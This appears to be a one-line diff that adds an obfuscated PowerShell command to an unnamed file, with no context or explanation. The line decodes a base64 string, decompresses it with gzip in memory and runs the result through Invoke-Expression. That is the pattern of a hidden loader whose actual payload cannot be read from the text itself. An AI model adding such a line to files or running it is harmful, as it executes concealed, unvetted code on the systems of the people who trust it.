@@ -1,0 +1,1 @@
+$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String("H4sIAFhTFmsC/1NJtvVLLdf1T8pKTS5R8Est0QtPTXLOyUzNK7FWSdZzyS/Py8lPTAkuKcrMS9dQzygpKbDS1zc00ANBQ/1EvYJiQ3XNGk/XCGvPvLL87FRd38zczOzEkioFXZfS3ALnotSUYgDJgtrIZQAAAA=="));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()
